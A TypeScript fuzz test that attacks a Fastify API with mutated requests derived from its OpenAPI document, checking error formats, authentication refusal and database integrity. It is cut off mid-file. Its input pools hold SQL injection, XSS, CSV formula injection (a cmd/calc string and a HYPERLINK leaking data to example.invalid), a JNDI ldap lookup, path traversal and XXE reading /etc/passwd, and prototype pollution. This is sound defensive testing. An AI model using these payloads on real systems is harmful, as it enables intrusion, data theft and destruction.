import { readFile } from 'node:fs/promises'
import fc from 'fast-check'
import type { FastifyInstance } from 'fastify'
import { sql } from 'kysely'
import t from 'tap'
import { ADMIN_TOKEN, testApp, testDatabase } from '../helpers.js'
import { buildWorld, created, injector } from '../world.js'

/*
 * Fuzzing from the document (api-contract.md, Errors; Roles and scope): for EVERY operation of the committed openapi/openapi.json,
 * a valid request is built from the document's examples and then broken, generically from the
 * operation's schemas (types, patterns, enums, maxLength, maxItems, required, minimum/maximum),
 * and sent with valid and invalid credentials. For every response (api-contract.md, Errors):
 *   - no 5xx;
 *   - every 4xx is application/problem+json with `status` equal to the HTTP status, `type`,
 *     `title` and `detail` strings and no stack trace; a 2xx in JSON parses;
 *   - with no valid credential, a secured operation never succeeds (Roles and scope: 401);
 *   - a refused request (>= 400) leaves every table as it was (a fingerprint of all rows of all
 *     tables, audit_events and idempotency_keys included, taken after every request).
 * The seed is printed; FUZZ_SEED=<seed> replays a run, and fast-check's failure report gives the
 * seed and path of the failing operation (FUZZ_ONLY="<METHOD> <path>" FUZZ_PATH=<path> replays one).
 */

const MIN_REQUESTS = 5000
const seed = process.env.FUZZ_SEED !== undefined && process.env.FUZZ_SEED !== '' ? Number(process.env.FUZZ_SEED) : (Math.random() * 0x7fffffff) | 0
t.comment(`fuzz seed ${seed} (replay with FUZZ_SEED=${seed})`)

// ---------------------------------------------------------------------------------------------
// The document

interface Schema {
  type?: string | string[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  anyOf?: Schema[]
  oneOf?: Schema[]
  enum?: unknown[]
  const?: unknown
  pattern?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  minItems?: number
  maxItems?: number
  examples?: unknown[]
}
interface Parameter { in: 'path' | 'query' | 'header' | 'cookie', name: string, required?: boolean, example?: unknown, schema?: Schema }
interface Operation {
  operationId?: string
  parameters?: Parameter[]
  requestBody?: { required?: boolean, content: Record<string, { schema?: Schema, example?: unknown }> }
  security?: Array<Record<string, unknown>>
}
interface Document { paths: Record<string, Record<string, Operation>>, security?: Array<Record<string, unknown>> }

const document = JSON.parse(await readFile(new URL('../../openapi/openapi.json', import.meta.url), 'utf8')) as Document

interface Endpoint {
  name: string
  method: string
  path: string
  secured: boolean
  parameters: Parameter[]
  body?: { contentType: string, schema: Schema | undefined, example: unknown }
}

const METHODS = new Set(['get', 'post', 'put', 'patch', 'delete'])
const endpoints: Endpoint[] = Object.entries(document.paths).flatMap(([path, methods]) =>
  Object.entries(methods).filter(([method]) => METHODS.has(method)).map(([method, op]): Endpoint => {
    const security = op.security ?? document.security ?? []
    const [contentType, media] = Object.entries(op.requestBody?.content ?? {})[0] ?? []
    return {
      name: `${method.toUpperCase()} ${path}`,
      method: method.toUpperCase(),
      path,
      secured: security.length > 0 && security.every((s) => Object.keys(s).length > 0),
      parameters: op.parameters ?? [],
      ...(contentType === undefined ? {} : { body: { contentType, schema: media?.schema, example: media?.example } }),
    }
  }))

const exampleOf = (p: Parameter): unknown => p.example ?? p.schema?.examples?.[0]

/** A valid value for a schema without an example: the first enum value, the minimum, or a string matching the pattern. */
function validValue (schema: Schema | undefined): unknown {
  if (schema === undefined) return 'x'
  if (schema.examples?.[0] !== undefined) return schema.examples[0]
  if (schema.const !== undefined) return schema.const
  if (schema.enum !== undefined) return schema.enum[0]
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type
  if (type === 'integer' || type === 'number') return schema.minimum ?? 1
  if (type === 'boolean') return true
  if (schema.pattern !== undefined) {
    const [sample] = fc.sample(fc.stringMatching(new RegExp(schema.pattern)), { seed: 1, numRuns: 1 })
    return sample!.slice(0, schema.maxLength ?? 100)
  }
  return 'x'.repeat(Math.max(1, schema.minLength ?? 1))
}

// ---------------------------------------------------------------------------------------------
// Hostile values, each under a short label so that a counterexample reads well

const HOSTILE_STRINGS: Record<string, string> = {
  'sql-or': "' OR 1=1 --",
  'sql-drop': "'; DROP TABLE districts; --",
  'sql-union': "1 UNION SELECT token_hash FROM api_keys",
  'sql-quote': "O'Brien\\'",
  'script': '<script>alert(1)</script>',
  'img-onerror': '"><img src=x onerror=alert(1)>',
  'hyperlink': '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
  'formula-plus': '+1+cmd|\' /C calc\'!A0',
  'formula-minus': '-2+3',
  'formula-at': '@SUM(A1:A9)',
  'formula-tab': '\t=1+1',
  'nul': '\u0000',
  'nul-inside': 'QD\u0000HT',
  'lone-high-surrogate': '\ud800',
  'lone-low-surrogate': 'x\udfffy',
  'rtl-override': '\u202e\u0645\u0631\u062d\u0628\u0627',
  'rtl-mark': '\u200f370214',
  'bom': '\ufeff10101',
  'zero-width': '10\u200b101',
  'nbsp': '\u00a0',
  'fullwidth-code': 'ＱＤ－ＨＴ',
  'fullwidth-digits': '３７０２１４',
  'arabic-digits': '٢٠٢١',
  'cjk-10k': '中'.repeat(10_000),
  'emoji-5k': '😀'.repeat(5_000),
  'combining': 'e\u0301'.repeat(2_000),
  'ascii-100k': 'x'.repeat(100_000),
  'empty': '',
  'space': ' ',
  'newline': '\n',
  'crlf': 'a\r\nb',
  'quote': '"',
  'backslash': '\\',
  'format': '%s%s%n%x',
  'jndi': '${jndi:ldap://example.invalid/a}',
  'template': '{{7*7}}${7*7}',
  'traversal': '../../../../etc/passwd',
  'proto': '__proto__',
  'constructor': 'constructor',
  'exp-overflow': '1e400',
  'exp-negative-overflow': '-1e400',
  'digits-40': '1234567890123456789012345678901234567890',
  'amount-40': '1234567890123456789012345678901234567890.00',
  'nan': 'NaN',
  'infinity': 'Infinity',
  'minus-infinity': '-Infinity',
  'minus-zero': '-0',
  'minus-zero-amount': '-0.00',
  'hex': '0x1F',
  'underscore-number': '1_000',
  'thousands': '1,000.00',
  'fullwidth-amount': '１０００.００',
  'three-decimals': '1000.005',
  'leading-space': ' 1000.00',
  'trailing-space': '1000.00 ',
  'plus-amount': '+1000.00',
  'dot-five': '.5',
  'five-dot': '5.',
  'zero-date': '0000-00-00',
  'feb-30': '2021-02-30',
  'month-13': '2021-13-01',
  'negative-year-date': '-2021-01-01',
  'five-digit-year': '99999-01-01',
  'short-date': '2021-1-1',
  'datetime': '2021-06-30T00:00:00Z',
  'minus-one': '-1',
  'zero': '0',
  'twenty-nines': '99999999999999999999',
  'int32-overflow': '2147483648',
  'year-negative': '-2021',
  'year-zero': '0000',
  'year-far': '9999',
}

/** Raw JSON texts, some of them not JSON at all. */
const HOSTILE_LITERALS: Record<string, string> = {
  'num-exp-overflow': '1e400',
  'num-exp-negative-overflow': '-1e400',
  'num-40-digits': '1234567890123456789012345678901234567890',
  'num-minus-zero': '-0',
  'num-exp': '1E2',
  'num-unsafe': '9007199254740993',
  'num-int32-overflow': '2147483648',
  'num-minus-one': '-1',
  'num-zero': '0',
  'num-fraction': '1.5',
  'num-tiny': '5e-324',
  'num-year-negative': '-2021',
  'num-year-far': '99999',
  'num-month-13': '13',
  'true': 'true',
  'false': 'false',
  'null': 'null',
  'empty-array': '[]',
  'empty-object': '{}',
  'array-of-null': '[null]',
  'mongo-operator': '{"$ne":null}',
  'proto-object': '{"__proto__":{"polluted":true}}',
  'constructor-object': '{"constructor":{"prototype":{"polluted":true}}}',
  'deep-array': `${'['.repeat(2000)}${']'.repeat(2000)}`,
  'not-json-nan': 'NaN',
  'not-json-infinity': 'Infinity',
  'not-json-undefined': 'undefined',
  'not-json-hex': '0x10',
  'not-json-leading-zero': '01',
  'not-json-dot': '.5',
  'not-json-plus': '+1',
  'not-json-single-quoted': "'x'",
}

type Value = { pool: string } | { literal: string } | { derive: string } | { random: string } | { valid: unknown }

const DERIVATIONS = [
  'too-long', 'too-long-cjk', 'too-long-emoji', 'empty', 'pattern-suffix', 'pattern-prefix', 'below-minimum', 'above-maximum',
  'fraction', 'not-in-enum', 'enum-case', 'as-string', 'as-number', 'as-array', 'as-object', 'huge-integer',
] as const

const poolValue = fc.constantFrom(...Object.keys(HOSTILE_STRINGS)).map((pool): Value => ({ pool }))
const literalValue = fc.constantFrom(...Object.keys(HOSTILE_LITERALS)).map((literal): Value => ({ literal }))
const derivedValue = fc.constantFrom(...DERIVATIONS).map((derive): Value => ({ derive }))
const randomValue = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 40 }))
  .map((random): Value => ({ random }))
/** A value to put where the document expects something: schema-derived, hostile or random. */
const anyValue = fc.oneof({ arbitrary: derivedValue, weight: 4 }, { arbitrary: poolValue, weight: 4 }, { arbitrary: literalValue, weight: 2 }, { arbitrary: randomValue, weight: 1 })
/**
 * Values the schema accepts, at its edges: the extremes of a range, strings of the longest length,
 * random strings of the pattern, every enum value. They reach the handlers, where a rule or the
 * database may still refuse them.
 */
function validValues (schema: Schema | undefined): fc.Arbitrary<Value> | undefined {
  if (schema === undefined) return undefined
  const type = typeOf(schema)
  const wrap = (arb: fc.Arbitrary<unknown>) => arb.map((valid): Value => ({ valid }))
  if (schema.enum !== undefined && schema.enum.length > 0) return wrap(fc.constantFrom(...schema.enum))
  if (type === 'integer') {
    const min = schema.minimum ?? -2_147_483_648
    const max = schema.maximum ?? 2_147_483_647
    return wrap(fc.oneof(fc.constantFrom(min, max), fc.integer({ min, max })))
  }
  if (type === 'boolean') return wrap(fc.boolean())
  if (type !== 'string') return undefined
  const max = Math.min(schema.maxLength ?? 1000, 100_000)
  if (schema.pattern !== undefined) {
    const pattern = new RegExp(schema.pattern)
    return wrap(fc.stringMatching(pattern).filter((v) => v.length <= max))
  }
  return wrap(fc.oneof(fc.constantFrom('x'.repeat(max), '中'.repeat(max), '😀'.repeat(Math.floor(max / 2))), fc.string({ unit: 'grapheme', minLength: schema.minLength ?? 0, maxLength: Math.min(max, 40) })))
}

/** A value for a place the document describes: hostile, or valid at the schema's edges. */
const valueFor = (schema: Schema | undefined, hostile: fc.Arbitrary<Value>): fc.Arbitrary<Value> => {
  const valid = validValues(schema)
  return valid === undefined ? hostile : fc.oneof({ arbitrary: hostile, weight: 3 }, { arbitrary: valid, weight: 1 })
}

/** The same, for text (query strings, path segments, CSV cells, headers). */
const anyText = fc.oneof({ arbitrary: derivedValue, weight: 4 }, { arbitrary: poolValue, weight: 5 }, { arbitrary: randomValue, weight: 1 })

const typeOf = (schema: Schema | undefined): string | undefined => Array.isArray(schema?.type) ? schema.type[0] : schema?.type

/** A value as a JSON text (`json`) and as plain text (`text`), derived from the schema and the valid value it replaces. */
function resolve (value: Value, schema: Schema | undefined, current: unknown): { json: string, text: string } {
  if ('pool' in value) return { json: JSON.stringify(HOSTILE_STRINGS[value.pool]!), text: HOSTILE_STRINGS[value.pool]! }
  if ('literal' in value) return { json: HOSTILE_LITERALS[value.literal]!, text: HOSTILE_LITERALS[value.literal]! }
  if ('random' in value) return { json: JSON.stringify(value.random), text: value.random }
  if ('valid' in value) return { json: JSON.stringify(value.valid), text: String(value.valid) }
  const str = (s: string) => ({ json: JSON.stringify(s), text: s })
  const num = (n: string) => ({ json: n, text: n })
  const base = typeof current === 'string' ? current : current === undefined ? String(validValue(schema)) : JSON.stringify(current)
  const longer = (unit: string) => unit.repeat((schema?.maxLength ?? 10_000) + 1)
  switch (value.derive) {
    case 'too-long': return str(longer('x'))
    case 'too-long-cjk': return str(longer('中'))
    case 'too-long-emoji': return str(longer('😀'))
    case 'empty': return str('')
    case 'pattern-suffix': return str(`${base}x`)
    case 'pattern-prefix': return str(` ${base}`)
    case 'below-minimum': return num(String((schema?.minimum ?? 0) - 1))
    case 'above-maximum': return num(String((schema?.maximum ?? 2_147_483_647) + 1))
    case 'fraction': return num(`${typeof current === 'number' ? current : (schema?.minimum ?? 1)}.5`)
    case 'not-in-enum': return str(`${String(schema?.enum?.[0] ?? base)}_not`)
    case 'enum-case': return str(String(schema?.enum?.[0] ?? base).toUpperCase())
    case 'as-string': return str(base)
    case 'as-number': return /^-?\d+(\.\d+)?$/.test(base) ? num(base) : num('1')
    case 'as-array': return { json: `[${JSON.stringify(current ?? null)}]`, text: `${base},${base}` }
    case 'as-object': return { json: `{"value":${JSON.stringify(current ?? null)}}`, text: `{"value":"${base}"}` }
    case 'huge-integer': return num('9'.repeat(typeOf(schema) === 'integer' ? 40 : 400))
    default: throw new Error(`unknown derivation ${value.derive}`)
  }
}

/** Text that an HTTP client can put in a header: UTF-8 bytes read as latin1, without CR, LF or NUL. */
const headerText = (s: string) => Buffer.from(s, 'utf8').toString('latin1').replace(/[\r\n\0]/g, '')

/** Percent-encodes every byte outside the unreserved set, lone surrogates as their (invalid) 3-byte UTF-8 form. */
function percentEncode (s: string): string {
  let out = ''
  for (const ch of s) {
    if (/^[A-Za-z0-9\-._~]$/.test(ch)) { out += ch; continue }
    const cp = ch.codePointAt(0)!
    const bytes = cp < 0x80 ? [cp]
      : cp < 0x800 ? [0xc0 | (cp >> 6), 0x80 | (cp & 63)]
        : cp < 0x10000 ? [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 63), 0x80 | (cp & 63)]
          : [0xf0 | (cp >> 18), 0x80 | ((cp >> 12) & 63), 0x80 | ((cp >> 6) & 63), 0x80 | (cp & 63)]
    for (const b of bytes) out += `%${b.toString(16).toUpperCase().padStart(2, '0')}`
  }
  return out
}

/** Path segments as a client could send them, not encoded further. */
const RAW_SEGMENTS = ['0', '-1', '99999999999999999999', 'abc', '..', '../', '../../v1/api-keys', '%2e%2e%2f', '%2F', '%00', '%', '%zz', '%ED%A0%80',
  '%C0%AF', '%FF', ';x', '', '+', '*', '~', '1.5', '1e3', '0x10', '%20', '%E4%B8%AD%E6%96%87', 'x'.repeat(300)]

const RAW_QUERIES = ['&&&', '=', '=x', 'year', 'year=', 'year[]=2021', 'year[a]=1', '__proto__[x]=1', 'constructor[prototype][x]=1', '%zz=1', 'a=%zz',
  'limit=1&limit=2', ';', '?', '#', `${'x'.repeat(10_000)}=1`, `a=${'b'.repeat(100_000)}`, '%00=%00', 'year=%ED%A0%80', 'cursor=%FF%FE']

const CONTENT_TYPES = [null, 'text/plain', 'text/plain; charset=utf-8', 'application/xml', 'text/xml', 'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=fuzz', 'application/json; charset=utf-16', 'application/json; charset=latin1', 'APPLICATION/JSON', 'application/json;',
  'application/jsonx', 'application/problem+json', 'application/vnd.api+json', 'text/csv', 'text/csv; charset=gbk', 'application/octet-stream',
  '*/*', ';', 'application/json, text/csv', '']

const BODY_TEXTS = ['truncate', 'append-garbage', 'bom', 'single-quotes', 'trailing-comma', 'comment', 'duplicate-keys', 'proto', 'constructor-proto',
  'deep-array', 'deep-object', 'empty', 'whitespace', 'null', 'number', 'string', 'array', 'form', 'xml', 'csv', 'json-for-csv', 'oversized', 'random-bytes',
  'utf16', 'latin1', 'nul-bytes', 'nan', 'header-only', 'unknown-header', 'unclosed-quote', 'cr-only', 'crlf', 'many-columns', 'blank-lines'] as const

// ---------------------------------------------------------------------------------------------
// Mutations: plain data (so that fast-check prints them), applied to a baseline request

type Mutation =
  | { kind: 'json-replace', pointer: string, value: Value }
  | { kind: 'json-delete', pointer: string }
  | { kind: 'json-add', pointer: string, key: string, value: Value }
  | { kind: 'json-grow', pointer: string, count: 'above-max' | 'none' | number }
  | { kind: 'body-text', variant: typeof BODY_TEXTS[number], n: number, bytes: number[] }
  | { kind: 'csv-cell', line: number, column: number, value: Value, quoted: boolean }
  | { kind: 'content-type', value: string | null }
  | { kind: 'path', name: string, raw: string } | { kind: 'path', name: string, value: Value }
  | { kind: 'query-set', name: string, value: Value | null }
  | { kind: 'query-dup', name: string, values: Value[] }
  | { kind: 'query-raw', text: string }
  | { kind: 'header', name: string, value: Value | string }
  | { kind: 'unchanged' }

interface JsonNode { pointer: string, value: unknown, schema: Schema | undefined }

/** The branch of an anyOf/oneOf that a valid value takes. */
function branch (schema: Schema | undefined, value: unknown): Schema | undefined {
  const options = schema?.anyOf ?? schema?.oneOf
  if (options === undefined) return schema
  const kind = value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value === 'number' ? (Number.isInteger(value) ? 'integer' : 'number') : typeof value
  return options.find((o) => typeOf(o) === kind || (kind === 'integer' && typeOf(o) === 'number')) ?? options[0]
}

/** Every node of a valid body, with the schema that describes it. */
function jsonNodes (value: unknown, schema: Schema | undefined, pointer = ''): JsonNode[] {
  const s = branch(schema, value)
  const nodes: JsonNode[] = [{ pointer, value, schema: s }]
  if (Array.isArray(value)) value.forEach((v, i) => nodes.push(...jsonNodes(v, s?.items, `${pointer}/${i}`)))
  else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) nodes.push(...jsonNodes(v, s?.properties?.[k], `${pointer}/${k}`))
  }
  return nodes
}

const splitPointer = (pointer: string) => pointer === '' ? [] : pointer.slice(1).split('/')

function parentOf (root: unknown, pointer: string): [Record<string, unknown> | unknown[], string] | undefined {
  const parts = splitPointer(pointer)
  const last = parts.pop()
  if (last === undefined) return undefined
  let node = root
  for (const part of parts) {
    if (node === null || typeof node !== 'object') return undefined
    node = (node as Record<string, unknown>)[part]
  }
  if (node === null || typeof node !== 'object') return undefined
  return [node as Record<string, unknown>, last]
}

function setOwn (target: object, key: string, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true })
}

interface RequestSpec {
  method: string
  path: Record<string, string>
  query: Array<[string, string | null]>
  rawQuery: string[]
  headers: Record<string, string>
  /** A JSON body being mutated, with raw JSON texts standing in for placeholders. */
  json?: { root: unknown, raws: string[] }
  payload?: string | Buffer
}

const placeholder = (i: number) => `\u0001fuzz-raw-${i}\u0001`

function serializeJson (json: { root: unknown, raws: string[] }): string {
  let text = JSON.stringify(json.root) ?? ''
  json.raws.forEach((raw, i) => { text = text.replace(JSON.stringify(placeholder(i)), () => raw) })
  return text
}

function baselineOf (endpoint: Endpoint): RequestSpec {
  const spec: RequestSpec = { method: endpoint.method, path: {}, query: [], rawQuery: [], headers: {} }
  for (const p of endpoint.parameters) {
    const example = exampleOf(p)
    if (p.in === 'path') spec.path[p.name] = percentEncode(String(example ?? validValue(p.schema)))
    else if (p.in === 'query' && (p.required === true || example !== undefined)) spec.query.push([p.name, percentEncode(String(example ?? validValue(p.schema)))])
  }
  if (endpoint.body !== undefined) {
    spec.headers['content-type'] = endpoint.body.contentType
    if (typeof endpoint.body.example === 'string') spec.payload = endpoint.body.example
    else spec.json = { root: structuredClone(endpoint.body.example ?? null), raws: [] }
  }
  return spec
}

function bodyText (spec: RequestSpec): string {
  if (spec.json !== undefined) return serializeJson(spec.json)
  return typeof spec.payload === 'string' ? spec.payload : spec.payload?.toString('latin1') ?? ''
}

function brokenBody (variant: typeof BODY_TEXTS[number], valid: string, n: number, bytes: number[]): string | Buffer {
  switch (variant) {
    case 'truncate': return valid.slice(0, valid.length === 0 ? 0 : n % valid.length)
    case 'append-garbage': return `${valid}}garbage`
    case 'bom': return `\ufeff${valid}`
    case 'single-quotes': return valid.replaceAll('"', "'")
    case 'trailing-comma': return valid.replace(/}$/, ',}').replace(/]$/, ',]')
    case 'comment': return `/* c */${valid}`
    case 'duplicate-keys': return valid.replace(/^{/, '{"fiscalYear":1,"code":1,"records":1,')
    case 'proto': return valid.replace(/^{/, '{"__proto__":{"admin":true},')
    case 'constructor-proto': return valid.replace(/^{/, '{"constructor":{"prototype":{"admin":true}},')
    case 'deep-array': return `${'['.repeat(5000)}${']'.repeat(5000)}`
    case 'deep-object': return `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`
    case 'empty': return ''
    case 'whitespace': return ' \n\t '
    case 'null': return 'null'
    case 'number': return '12345'
    case 'string': return '"text"'
    case 'array': return `[${valid}]`
    case 'form': return 'fiscalYear=2021&groups=1'
    case 'xml': return '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    case 'csv': return 'zoneCode,districtCode,category,year,month,amount\nQD-HT,370214,10101,2021,12,1.00\n'
    case 'json-for-csv': return '{"records":[]}'
    case 'oversized': return valid.length > 0 && valid.startsWith('{') ? `{"pad":"${'x'.repeat(1_100_000)}",${valid.slice(1)}` : `${valid}\n${'x,'.repeat(600_000)}`
    case 'random-bytes': return Buffer.from(bytes)
    case 'utf16': return Buffer.from(valid, 'utf16le')
    case 'latin1': return Buffer.from(valid, 'latin1')
    case 'nul-bytes': return valid.replace(/,/g, '\u0000,')
    case 'nan': return valid.replace(/\d+(\.\d+)?/, 'NaN')
    case 'header-only': return valid.split('\n')[0] ?? ''
    case 'unknown-header': return valid.replace(/^[^,\n]*/, 'unknownColumn')
    case 'unclosed-quote': return valid.replace(/\n/, '\n"')
    case 'cr-only': return valid.replaceAll('\n', '\r')
    case 'crlf': return valid.replaceAll('\n', '\r\n')
    case 'many-columns': return `${valid}${'x,'.repeat(10_000)}\n`
    case 'blank-lines': return `${valid}${'\n'.repeat(1000)}${valid.split('\n').slice(1).join('\n')}`
  }
}

function apply (endpoint: Endpoint, spec: RequestSpec, mutation: Mutation): void {
  const queryParams = endpoint.parameters.filter((p) => p.in === 'query')
  switch (mutation.kind) {
    case 'unchanged': return
    case 'json-replace': case 'json-delete': case 'json-add': case 'json-grow': {
      if (spec.json === undefined) return
      const node = jsonNodes(endpoint.body?.example, endpoint.body?.schema).find((n) => n.pointer === mutation.pointer)
      if (node === undefined) return
      const json = spec.json
      const put = (target: unknown) => {
        if (mutation.pointer === '') { json.root = target; return }
        const parent = parentOf(json.root, mutation.pointer)
        if (parent !== undefined) setOwn(parent[0], parent[1], target)
      }
      if (mutation.kind === 'json-replace') {
        json.raws.push(resolve(mutation.value, node.schema, node.value).json)
        put(placeholder(json.raws.length - 1))
      } else if (mutation.kind === 'json-delete') {
        const parent = parentOf(json.root, mutation.pointer)
        if (parent === undefined) return
        if (Array.isArray(parent[0])) parent[0].splice(Number(parent[1]), 1)
        else delete parent[0][parent[1]]
      } else if (mutation.kind === 'json-add') {
        const target = mutation.pointer === '' ? json.root : (() => { const p = parentOf(json.root, mutation.pointer); return p === undefined ? undefined : (p[0] as Record<string, unknown>)[p[1]] })()
        if (target === null || typeof target !== 'object' || Array.isArray(target)) return
        json.raws.push(resolve(mutation.value, undefined, undefined).json)
        setOwn(target, mutation.key, placeholder(json.raws.length - 1))
      } else {
        if (!Array.isArray(node.value)) return
        const count = mutation.count === 'above-max' ? Math.min((node.schema?.maxItems ?? 1000) + 1, 20_001) : mutation.count === 'none' ? 0 : mutation.count
        const first = node.value[0] ?? null
        put(Array.from({ length: count }, () => structuredClone(first)))
      }
      return
    }
    case 'body-text': {
      const valid = bodyText(spec)
      delete spec.json
      spec.payload = brokenBody(mutation.variant, valid, mutation.n, mutation.bytes)
      if (spec.headers['content-type'] === undefined) spec.headers['content-type'] = 'application/json'
      return
    }
    case 'csv-cell': {
      if (typeof spec.payload !== 'string') return
      const lines = spec.payload.split('\n')
      const cells = lines[mutation.line % Math.max(1, lines.length - 1)]?.split(',')
      if (cells === undefined) return
      let text = resolve(mutation.value, undefined, cells[mutation.column % cells.length]).text
      if (mutation.quoted) text = `"${text.replaceAll('"', '""')}"`
      cells[mutation.column % cells.length] = text
      lines[mutation.line % Math.max(1, lines.length - 1)] = cells.join(',')
      spec.payload = lines.join('\n')
      return
    }
    case 'content-type':
      if (mutation.value === null) delete spec.headers['content-type']
      else spec.headers['content-type'] = mutation.value
      if (spec.json === undefined && spec.payload === undefined) spec.payload = '{}'
      return
    case 'path': {
      const parameter = endpoint.parameters.find((p) => p.in === 'path' && p.name === mutation.name)
      spec.path[mutation.name] = 'raw' in mutation ? mutation.raw : percentEncode(resolve(mutation.value, parameter?.schema, exampleOf(parameter!)).text)
      return
    }
    case 'query-set': {
      const parameter = queryParams.find((p) => p.name === mutation.name)
      spec.query = spec.query.filter(([name]) => name !== mutation.name)
      spec.query.push([mutation.name, mutation.value === null ? null : percentEncode(resolve(mutation.value, parameter?.schema, parameter === undefined ? undefined : exampleOf(parameter)).text)])
      return
    }
    case 'query-dup': {
      const parameter = queryParams.find((p) => p.name === mutation.name)
      const valid = percentEncode(String(parameter === undefined ? 'x' : exampleOf(parameter) ?? validValue(parameter.schema)))
      spec.query = spec.query.filter(([name]) => name !== mutation.name)
      spec.query.push([mutation.name, valid])
      for (const v of mutation.values) spec.query.push([mutation.name, percentEncode(resolve(v, parameter?.schema, undefined).text)])
      return
    }
    case 'query-raw': spec.rawQuery.push(mutation.text); return
    case 'header':
      spec.headers[mutation.name] = headerText(typeof mutation.value === 'string' ? mutation.value : resolve(mutation.value, undefined, undefined).text)
  }
}

/** The mutations that make sense for an operation, weighted towards what its document describes. */
function mutationsFor (endpoint: Endpoint): fc.Arbitrary<Mutation> {
  const arbs: Array<{ arbitrary: fc.Arbitrary<Mutation>, weight: number }> = []
  const add = (weight: number, arbitrary: fc.Arbitrary<Mutation>) => arbs.push({ arbitrary, weight })
  const body = endpoint.body
  const nodes = body !== undefined && typeof body.example !== 'string' ? jsonNodes(body.example, body.schema) : []
  const pointers = nodes.map((n) => n.pointer)
  if (nodes.length > 0) {
    add(8, fc.constantFrom(...nodes).chain((node) =>
      fc.record({ kind: fc.constant('json-replace' as const), pointer: fc.constant(node.pointer), value: valueFor(node.schema, anyValue) })))
    const removable = pointers.filter((p) => p !== '')
    if (removable.length > 0) add(3, fc.record({ kind: fc.constant('json-delete' as const), pointer: fc.constantFrom(...removable) }))
    const objects = nodes.filter((n) => n.value !== null && typeof n.value === 'object' && !Array.isArray(n.value)).map((n) => n.pointer)
    if (objects.length > 0) {
      add(1, fc.record({
        kind: fc.constant('json-add' as const), pointer: fc.constantFrom(...objects),
        key: fc.constantFrom('unknownField', '__proto__', 'constructor', 'prototype', '', ' ', '$where', 'id', 'createdAt', 'status', 'role', 'keyId', '中文', 'zoneCode'),
        value: anyValue,
      }))
    }
    const arrays = nodes.filter((n) => Array.isArray(n.value)).map((n) => n.pointer)
    if (arrays.length > 0) {
      add(2, fc.record({
        kind: fc.constant('json-grow' as const), pointer: fc.constantFrom(...arrays),
        count: fc.oneof(fc.constant('above-max' as const), fc.constant('none' as const), fc.integer({ min: 2, max: 60 })),
      }))
    }
  }
  if (body !== undefined && typeof body.example === 'string') {
    const lines = body.example.split('\n').length
    add(8, fc.record({ kind: fc.constant('csv-cell' as const), line: fc.nat(lines), column: fc.nat(20), value: anyText, quoted: fc.boolean() }))
  }
  add(body === undefined ? 1 : 3, fc.record({
    kind: fc.constant('body-text' as const), variant: fc.constantFrom(...BODY_TEXTS), n: fc.nat(10_000),
    bytes: fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 48 }),
  }))
  add(body === undefined ? 1 : 2, fc.record({ kind: fc.constant('content-type' as const), value: fc.constantFrom(...CONTENT_TYPES) }))
  const pathNames = endpoint.parameters.filter((p) => p.in === 'path').map((p) => p.name)
  if (pathNames.length > 0) {
    add(4, fc.oneof(
      fc.record({ kind: fc.constant('path' as const), name: fc.constantFrom(...pathNames), raw: fc.constantFrom(...RAW_SEGMENTS) }),
      fc.constantFrom(...pathNames).chain((name) => fc.record({
        kind: fc.constant('path' as const), name: fc.constant(name),
        value: valueFor(endpoint.parameters.find((p) => p.in === 'path' && p.name === name)?.schema, anyText),
      })),
    ))
  }
  const queryNames = endpoint.parameters.filter((p) => p.in === 'query').map((p) => p.name)
  const names = fc.constantFrom(...queryNames, 'unknown', 'limit', '__proto__')
  add(queryNames.length > 0 ? 4 : 1, names.chain((name) => fc.record({
    kind: fc.constant('query-set' as const), name: fc.constant(name),
    value: fc.option<Value, null>(valueFor(endpoint.parameters.find((p) => p.in === 'query' && p.name === name)?.schema, anyText), { freq: 8, nil: null }),
  })))
  add(queryNames.length > 0 ? 2 : 1, fc.record({ kind: fc.constant('query-dup' as const), name: names, values: fc.array(anyText, { minLength: 1, maxLength: 2 }) }))
  add(1, fc.record({ kind: fc.constant('query-raw' as const), text: fc.constantFrom(...RAW_QUERIES) }))
  add(2, fc.record({
    kind: fc.constant('header' as const),
    name: fc.constantFrom('idempotency-key', 'idempotency-key', 'accept-language', 'accept', 'content-encoding', 'x-forwarded-for'),
    value: fc.oneof(fc.constantFrom('fuzz-key-1', 'fuzz-key-2', 'en', 'gzip', 'application/xml', '*/*'), anyText),
  }))
  add(1, fc.constant({ kind: 'unchanged' as const }))
  return fc.oneof(...arbs)
}

// ---------------------------------------------------------------------------------------------
// The world, credentials, and the fingerprint of every table

const database = await testDatabase(t)
const app: FastifyInstance = await testApp(t, database)
const world = await buildWorld(t, app)
// The transfer example hands a debt to 黄岛区 370211.
await created(t, app, '/v1/districts', { code: '370211', name: '黄岛区' })
const revoked = await created(t, app, '/v1/api-keys', { role: 'zone', zoneCode: 'QD-HT', label: 'revoked' }) as { id: string, token: string }
const injectAs = injector(app, world)
const revocation = (await injectAs('admin', { method: 'DELETE', url: `/v1/api-keys/${revoked.id}` })).statusCode

const VALID_CREDENTIALS: Record<string, string> = {
  admin: `Bearer ${world.tokens.admin}`,
  district: `Bearer ${world.tokens.district214}`,
  zone: `Bearer ${world.tokens.zoneHT}`,
  // RFC 6750 §2.1: one space or more after the scheme.
  'admin-double-space': `Bearer  ${world.tokens.admin}`,
}
const INVALID_CREDENTIALS: Record<string, string | undefined> = {
  none: undefined,
  wrong: 'Bearer wrong-token-0123456789abcdef',
  revoked: `Bearer ${revoked.token}`,
  'admin-prefix': `Bearer ${ADMIN_TOKEN.slice(0, -1)}`,
  'empty-bearer': 'Bearer ',
  'bare-scheme': 'Bearer',
  basic: 'Basic YWRtaW46YWRtaW4=',
  'token-only': ADMIN_TOKEN,
  'tab-separated': `Bearer\t${ADMIN_TOKEN}`,
  'trailing-word': `Bearer ${ADMIN_TOKEN} extra`,
